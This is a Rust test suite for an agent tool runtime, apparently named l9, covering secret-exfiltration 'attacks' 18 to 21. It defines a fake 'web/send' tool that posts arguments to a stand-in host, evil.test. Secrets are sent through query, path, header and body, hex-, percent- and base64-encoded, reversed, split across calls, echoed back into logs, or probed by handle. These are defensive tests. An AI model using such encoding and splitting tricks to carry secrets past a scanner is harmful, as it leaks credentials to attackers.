//! Attacks 18 to 21: secrets that somebody wants to carry out, to have echoed, or to know
//! of.
#![expect(clippy::unwrap_used, reason = "a test may fail")]

use std::io::Write;
use std::sync::{Arc, Mutex};

use l9::gateway::Gateway;
use l9::governor::Choice;
use l9::id::CommandId;
use l9::run::{Command, CommandRequest, Remember};
use l9::secrets::{Environment, Grant};
use l9::{ErrorKind, Runtime, Settings};
use serde_json::{Value, json};

use super::setup::{Called, Setup, asked};
use super::world::{PUBLIC, Server, World, answer, ok, path, tool};

const SECRET: &str = "sk-5ecret-0123456789-abcdef";

/// Every look of a text that a scanner should know.
fn looks(text: &str) -> Vec<String> {
    let hex = |upper: bool| -> String {
        text.bytes().map(|byte| if upper { format!("{byte:02X}") } else { format!("{byte:02x}") }).collect()
    };
    let percent: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let mut looks = vec![text.to_owned(), text.chars().rev().collect(), hex(false), hex(true), percent];
    for before in ["", "a", "ab"] {
        looks.push(base64(&format!("{before}{text}")));
    }
    looks
}

/// Base64 (RFC 4648), written out here so that the scanner is not tested with itself.
fn base64(text: &str) -> String {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let of = |chunk: &[u8]| -> String {
        let bits = chunk.iter().fold(0u32, |bits, byte| (bits << 8) | u32::from(*byte)) << (8 * (3 - chunk.len()));
        (0..4)
            .map(|at| if at <= chunk.len() { char::from(digits[(bits >> (18 - 6 * at)) as usize & 63]) } else { '=' })
            .collect()
    };
    text.as_bytes().chunks(3).map(of).collect()
}

/// A tool that sends its arguments in the path, the query, a header and the body.
fn sender(port: u16) -> Value {
    json!({
        "schema_version": 1, "id": "web/send", "version": "1.0.0", "title": "Send", "description": "Sends.", "effect": "opaque_write",
        "runtime": {
            "kind": "http", "method": "POST", "url": format!("http://evil.test:{port}/api/{{path}}"),
            "query": {"q": "{query}"}, "headers": {"x-note": "{header}"}, "body": {"text": "{body}"},
        },
        "input_schema": {
            "type": "object",
            "properties": {"path": {"type": "string"}, "query": {"type": "string"}, "header": {"type": "string"}, "body": {"type": "string"}},
        },
        "net": [{"scheme": "http", "host": "evil.test", "port": port, "methods": ["POST"], "path_prefix": "/api"}],
        "limits": {"wall_ms": 20_000},
    })
}

fn sending(port: u16, knows: bool) -> Setup {
    let setup = Setup::new(sender(port), Gateway::new(Arc::new(World::of(&[("evil.test", &[PUBLIC])]))));
    if knows { setup.secret("other-key", SECRET) } else { setup }
}

/// What a server was sent, with percent-encoding undone.
fn decoded(server: &Server) -> String {
    let (whole, mut text) = (server.seen().concat(), String::new());
    let mut rest = whole.as_str();
    while let Some((before, after)) = rest.split_once('%') {
        text.push_str(before);
        let byte = after.get(..2).and_then(|digits| u8::from_str_radix(digits, 16).ok());
        text.push(byte.map_or('%', char::from));
        rest = if byte.is_some() { &after[2..] } else { after };
    }
    text + rest
}

/// That an argument neither leaves nor is journaled, whoever writes it and whenever it is
/// known to be secret.
async fn carried_out(argument: &str, place: &str) {
    let with = |text: &str| {
        let mut arguments = json!({"path": "p", "query": "q", "header": "h", "body": "b"});
        arguments[place] = json!(text);
        arguments
    };
    let server = Server::start(|_| ok()).await;
    // What a person writes is refused before any of it is journaled.
    let arguments = with(argument).to_string();
    let called = sending(server.port, true).person(&arguments).await;
    assert_eq!((called.code.as_str(), server.seen().len()), ("none", 0), "{place} {argument} {}", called.journal);
    assert!(
        called.journal.contains("arguments hold a known secret") && !called.journal.contains(argument),
        "{}",
        called.journal
    );
    // What was journaled before it was known to be secret does not leave all the same.
    let called = sending(server.port, false).approved(&arguments, Some(SECRET)).await;
    assert_eq!((called.code.as_str(), server.seen().len()), ("refused", 0), "{place} {argument} {}", called.journal);
    // What a model says is masked before anything acts on it.
    let called = sending(server.port, true).agent(&[with(argument)]).await;
    assert!(!decoded(&server).contains(argument) && !called.journal.contains(argument), "{place} {argument}");
    // The same words leave where nobody knows that they are secret.
    let open = Server::start(|_| ok()).await;
    let called = sending(open.port, false).approved(&arguments, None).await;
    assert_eq!(called.code, "ok", "{}", called.journal);
    let called = sending(open.port, false).person(&arguments).await;
    assert_eq!(called.code, "ok", "{}", called.journal);
    let known = |look: &Value| called.journal.contains(&look.to_string()) || called.journal.contains(argument);
    assert!(known(&json!(argument)), "the journal has it: {}", called.journal);
    assert!(
        open.seen()[0].contains(argument) || decoded(&open).contains(argument),
        "{place} {argument} {:?}",
        open.seen()
    );
}

#[tokio::test]
async fn attack_18_a_secret_in_query_path_header_and_body() {
    for place in ["query", "path", "header", "body"] {
        carried_out(&format!("x{SECRET}y"), place).await;
    }
}

#[tokio::test]
async fn attack_19_a_secret_encoded_reversed_and_split_over_calls() {
    for look in looks(SECRET) {
        // Percent-encoding in a path is an argument's own text, which is encoded once more.
        carried_out(&look, "body").await;
    }
    let (first, second) = SECRET.split_at(SECRET.len() / 2);
    for half in [first, second] {
        carried_out(half, "query").await;
    }
    // Over two calls of one agent neither half gets out.
    let server = Server::start(|_| ok()).await;
    let call = |text: &str| json!({"path": "p", "query": text, "header": "h", "body": "b"});
    sending(server.port, true).agent(&[call(first), call(second)]).await;
    assert!(!decoded(&server).contains(first) && !decoded(&server).contains(second), "{:?}", server.seen());
    let open = Server::start(|_| ok()).await;
    sending(open.port, false).agent(&[call(first), call(second)]).await;
    assert!(decoded(&open).contains(first) && decoded(&open).contains(second), "{:?}", open.seen());
}

#[tokio::test]
async fn what_is_sent_to_a_run_holds_no_secret_unless_it_stops_it() {
    let mut setup = sending(1, true);
    setup.manifest["approval"] = json!("always");
    let (runtime, _folder) = setup.build(Vec::new()).await.unwrap();
    let (by, arguments) = (runtime.principal(), json!({"path": "p", "query": "q", "header": "h", "body": "b"}));
    runtime.call("web/send", &arguments.to_string()).await.unwrap();
    let question = asked(&runtime).await;
    let id = |text: &str| CommandId::new(text).unwrap();
    let send = async |name: &str, command: Command| {
        let request = CommandRequest { id: id(name), by: by.subject.clone(), command };
        runtime.engine().command(&by.tenant, question.run, &request).await
    };
    let mut edited = arguments.clone();
    edited["body"] = json!(SECRET);
    let edit = Choice::Approve { arguments: Some(edited), remember: Remember::Once };
    let error = runtime.engine().decide(&by, question, edit, "x".into(), id("edit")).await.unwrap_err();
    assert!(error.kind() == ErrorKind::Invalid && error.to_string().contains("the decision holds"), "{error}");
    let signal = |value: &str| Command::Signal { name: "go".into(), value: json!([value]) };
    let error = send("signal", signal(SECRET)).await.unwrap_err();
    assert!(error.kind() == ErrorKind::Invalid && error.to_string().contains("the command holds"), "{error}");
    let error = send("harmless", signal("a-harmless-text")).await.unwrap_err();
    assert!(error.to_string().contains("nobody waits for signal"), "{error}");
    // Whoever wants a run stopped gets that, whatever else they say.
    send("cancel", Command::Cancel { reason: SECRET.into() }).await.unwrap();
    runtime.shutdown().await;
}

/// A log that is kept as text.
#[derive(Clone, Default)]
struct Kept(Arc<Mutex<Vec<u8>>>);

impl Write for Kept {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn attack_20_a_secret_echoed_into_output_error_and_log() {
    let log = Kept::default();
    let kept = log.clone();
    let subscriber = tracing_subscriber::fmt().with_max_level(tracing_subscriber::filter::LevelFilter::TRACE);
    let _guard = tracing::subscriber::set_default(subscriber.with_writer(move || kept.clone()).finish());
    tracing::info!("the log is kept");
    let echo = |status: u16| {
        move |request: &str| {
            let key = request.lines().find_map(|line| line.strip_prefix("x-key: ")).unwrap_or_default();
            let all: Value =
                looks(key).into_iter().enumerate().map(|(at, look)| (format!("{at}{look}"), json!([look]))).collect();
            let shown = format!("content-type: application/json\r\nx-echo: {key}\r\n");
            answer(status, &shown, json!({"all": all, "key": key}).to_string())
        }
    };
    let call = async |status: u16, known: bool| {
        // The far side repeats `x-key`, which is known to be a secret or is a text like any other.
        let server = Server::start(echo(status)).await;
        let mut manifest = tool("a.test", server.port);
        if known {
            manifest["secrets"] = json!([{"handle": "key", "audience": "a.test", "inject": {"header": "x-key"}}]);
        } else {
            manifest["runtime"]["headers"] = json!({"x-key": SECRET});
        }
        let mut setup = Setup::new(manifest, Gateway::new(Arc::new(World::of(&[("a.test", &[PUBLIC])]))));
        if known {
            setup = setup.secret("key", SECRET);
        }
        let called = setup.agent(&[json!({"path": "x"})]).await;
        assert!(server.seen()[0].contains(&format!("x-key: {SECRET}")), "{:?}", server.seen());
        called
    };
    for status in [200, 400, 503] {
        let called: Called = call(status, true).await;
        assert!(called.journal.contains("[redacted: key]"), "{status} {}", called.journal);
        for look in looks(SECRET) {
            // The digits at either end may belong to a neighbour.
            let inner = &look[4..look.len() - 4];
            assert!(!called.journal.contains(inner), "{status} {look} {}", called.journal);
        }
        // The same answer is journaled as it is where nobody knows that it is secret.
        let open = call(status, false).await;
        for look in looks(SECRET) {
            assert!(open.journal.contains(&look[4..look.len() - 4]), "{status} {look} {}", open.journal);
        }
    }
    let log = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert!(log.contains("the log is kept"), "{log}");
    for look in looks(SECRET) {
        assert!(!log.contains(&look[4..look.len() - 4]), "{look} stands in the log");
    }
}

#[tokio::test]
async fn attack_21_a_probe_for_handles() {
    let server = Server::start(|_| ok()).await;
    let call = async |handle: &str, granted: &[&str], tools: &str| {
        let mut manifest = tool("a.test", server.port);
        manifest["secrets"] = json!([{"handle": handle, "audience": "a.test", "inject": {"query": "key"}}]);
        let grant =
            Grant { hosts: granted.iter().map(|host| (*host).to_owned()).collect(), tools: vec![tools.to_owned()] };
        let settings = Settings { secret_grants: [("notes-key".to_owned(), grant)].into(), ..Settings::default() };
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("tool.json"), manifest.to_string()).unwrap();
        let variable = (Environment::variable("notes-key"), SECRET.to_owned());
        let gateway = Gateway::new(Arc::new(World::of(&[("a.test", &[PUBLIC])])));
        let builder = Runtime::builder().settings(settings).in_memory().tools_dir(folder.path()).gateway(gateway);
        let runtime = builder.secret_provider(Arc::new(Environment::of([variable]))).build().await;
        let runtime = runtime.map_err(|error| {
            error.to_string().replace(&folder.path().display().to_string(), "").replace(handle, "HANDLE")
        })?;
        let ended = runtime.call("web/fetch", r#"{"path":"x"}"#).await.unwrap().outcome().await.unwrap();
        runtime.shutdown().await;
        Ok::<_, String>(format!("{ended:?}"))
    };
    let missing = call("no-such-key", &["a.test"], "*").await.unwrap_err();
    assert!(missing.contains("is not granted"), "{missing}");
    // The last one is granted over TLS only, and the manifest goes there without.
    let others =
        [(&["http://b.test"][..], "*"), (&["http://a.test"][..], "mail/send"), (&[][..], "*"), (&["a.test"][..], "*")];
    for (hosts, tools) in others {
        assert_eq!(call("notes-key", hosts, tools).await.unwrap_err(), missing, "{hosts:?} {tools}");
    }
    assert!(server.seen().is_empty());
    let ended = call("notes-key", &["http://a.test"], "web/*").await.unwrap();
    assert_eq!(path(&server.seen()[0]), format!("/api/x?key={SECRET}"));
    assert!(!ended.contains(SECRET), "{ended}");
}
